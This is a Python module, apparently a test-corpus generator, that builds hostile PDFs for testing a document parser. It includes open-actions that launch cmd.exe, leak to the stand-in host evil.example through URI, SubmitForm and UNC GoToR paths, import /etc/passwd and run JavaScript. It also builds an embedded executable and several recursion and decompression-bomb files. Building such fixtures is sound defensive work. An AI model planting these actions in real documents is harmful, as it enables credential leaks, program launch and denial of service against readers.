"""PDFs that run something, reach for something, never end, or are larger than any paper."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

import pikepdf

from tools.corpus import Hostile
from tools.corpus.broken import EXE, PDF

PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] {more} >>"


def written(*objects: str | bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its root."""
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        body = each if isinstance(each, bytes) else each.encode()
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer << /Size {size} /Root 1 0 R >>\n"
    return out + end.encode() + f"startxref\n{len(out)}\n%%EOF\n".encode()


def one_page(root: str = "", page: str = "", *more: str | bytes) -> bytes:
    """A PDF of one page, with these entries in its root and its page; further objects begin with number 4."""
    return written(
        f"<< /Type /Catalog /Pages 2 0 R {root} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE.format(more=page),
        *more,
    )


def stream(content: bytes, entries: str = "") -> bytes:
    packed = zlib.compress(content, 9)
    head = f"<< /Length {len(packed)} /Filter /FlateDecode {entries} >>\nstream\n"
    return head.encode() + packed + b"\nendstream"


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def carrying() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as pdf:
        pdf.attachments["setup.exe"] = EXE
        pdf.save(out)
    return out.getvalue()


ACTIONS = {
    "JavaScript": "/S /JavaScript /JS (app.alert\\(1\\))",
    "a program": "/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>",
    "a web address": "/S /URI /URI (https://evil.example/?leak)",
    "another file": "/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]",
    "a form's address": "/S /SubmitForm /F (https://evil.example/) /Fields []",
    "imported data": "/S /ImportData /F (file:///etc/passwd)",
    "a sound": "/S /Rendition /OP 0",
}


def files() -> Iterator[Hostile]:
    for what, action in ACTIONS.items():
        yield Hostile(f"a PDF that opens {what}", "plan.pdf", one_page(f"/OpenAction << {action} >>"))
    yield Hostile("a page that runs a script", "plan.pdf", one_page("", f"/AA << /O << {ACTIONS['JavaScript']} >> >>"))
    yield Hostile("a locked PDF", "plan.pdf", locked)
    yield Hostile("a PDF that carries a program", "plan.pdf", carrying)
    form = stream(b'<xdp:xdp xmlns:xdp="x"><script>xfa.host.messageBox(1)</script></xdp:xdp>')
    yield Hostile(
        "a PDF with a form of another kind", "plan.pdf", one_page("/AcroForm << /XFA 4 0 R /Fields [] >>", "", form)
    )
    yield from _endless()
    yield from _large()


def _endless() -> Iterator[Hostile]:
    yield Hostile("pages that are their own parents", "plan.pdf", written(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ))  # fmt: skip
    yield Hostile("a thousand million pages", "plan.pdf", written(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>", PAGE.format(more=""),
    ))  # fmt: skip
    yield Hostile("a drawing that draws itself", "plan.pdf", one_page(
        "", "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>", stream(b"/X Do"),
        stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"),
    ))  # fmt: skip
    looped = PDF.replace(b"startxref", b"startxref\n0\n%%EOF\nstartxref")
    yield Hostile("a table of places that leads nowhere", "plan.pdf", looped)
    deep = b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000 + b" >>"
    yield Hostile("brackets a hundred thousand deep", "plan.pdf", written(
        deep, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE.format(more=""),
    ))  # fmt: skip
    marks = b"\n".join(b"/Bookmark%d" % number for number in range(10))
    yield Hostile("bookmarks in a ring", "plan.pdf", one_page(
        "/Outlines 4 0 R", "", b"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
        b"<< /Title (again) /Parent 4 0 R /Next 5 0 R /Prev 5 0 R >>", b"% " + marks.replace(b"\n", b" "),
    ))  # fmt: skip


def _large() -> Iterator[Hostile]:
    huge = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100000000 100000000] >>"
    pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    yield Hostile("a page as large as a country", "plan.pdf", written("<< /Type /Catalog /Pages 2 0 R >>", pages, huge))
    none = huge.replace("100000000 100000000", "0 0")
    yield Hostile("a page without size", "plan.pdf", written("<< /Type /Catalog /Pages 2 0 R >>", pages, none))
    drawing = one_page("", "/Contents 4 0 R", stream(b"0 0 m 300 300 l S\n" * 2_000_000))
    yield Hostile("38 MB of lines in a small stream", "plan.pdf", drawing)
    image = stream(bytes(64_000_000), "/Type /XObject /Subtype /Image /Width 8000 /Height 8000 "
                   "/ColorSpace /DeviceGray /BitsPerComponent 8")  # fmt: skip
    yield Hostile("a picture of 64 megapixels on a page", "plan.pdf", one_page(
        "", "/Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >>", image, stream(b"300 0 0 300 0 0 cm /X Do"),
    ))  # fmt: skip
